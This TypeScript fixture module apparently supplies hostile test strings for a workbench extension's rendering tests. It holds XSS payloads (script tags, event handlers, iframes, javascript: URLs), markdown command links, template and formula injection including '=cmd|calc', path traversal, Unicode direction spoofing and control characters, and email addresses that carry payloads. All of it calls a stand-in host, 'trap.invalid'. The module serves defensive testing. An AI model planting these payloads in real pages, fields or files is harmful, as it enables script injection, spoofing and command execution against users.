/** Texts and addresses as a stranger would write them who means harm: what the tests of rules and those in the workbench have in common. */

/** Whoever asks this host for something has fallen for it. `.invalid` never resolves. */
export const TRAP = 'trap.invalid';

/** Text at its worst: each would run, load, open or disguise something where text is taken for more than text. */
export const TEXTS: Readonly<Record<string, string>> = {
  script: `<script>window.trapped='script';alert(1)</script><script src="https://${TRAP}/s.js"></script>`,
  handler: `"'><img src="https://${TRAP}/h.gif" onerror="window.trapped='img';alert(2)"><svg onload="window.trapped='svg'"><details open ontoggle="window.trapped='details'">`,
  frame: `<iframe src="https://${TRAP}/f.html" srcdoc="<script>parent.trapped='frame'</script>"></iframe><meta http-equiv="refresh" content="0;url=https://${TRAP}/">`,
  style: `<style>@import 'https://${TRAP}/c.css';*{display:none!important}</style><link rel="stylesheet" href="https://${TRAP}/l.css">`,
  link: `<a href="javascript:window.trapped='link'">a</a> javascript:window.trapped='js' data:text/html,<script>window.trapped='data'</script>`,
  markdown: `[fix it](command:workbench.action.quit) [x](javascript:alert(3)) ![i](https://${TRAP}/m.png) **bold** \`code\` <b>html</b>`,
  icons: '$(trash) $(alert~spin) ${user.home} {{7*7}} %s %o &lt;b&gt; &#60;b&#62;',
  reversed: 'moc.elpmaxe\u202Etxt.exe\u202C \u2066isolated\u2069 \u200Fmark',
  hidden: 'ze\u200Bro\uFEFF wid\u2060th \u0000\u0007\u001b[31mred\u001b[0m\u0008 \u2028line\u2029 \ud800 lone',
  marks: `Z${'\u0335\u0321\u034d'.repeat(200)}algo`,
  unbroken: 'x'.repeat(100_000),
  long: 'rejected by a very talkative server; '.repeat(2700),
  formula: '=HYPERLINK("https://trap.invalid/x","open")',
};

/** Addresses that hurt by themselves. */
export const ADDRESSES: readonly string[] = [
  `"><img src=x onerror=window.trapped='address'>@${TRAP}`,
  `<script>window.trapped='address'</script>@${TRAP}`,
  `$(trash)@${TRAP}`,
  `[a](command:workbench.action.quit)@${TRAP}`,
  `=cmd|calc@${TRAP}`,
  `../../domains@${TRAP}`,
  `a\u202Emoc.elpmaxe@${TRAP}`,
];
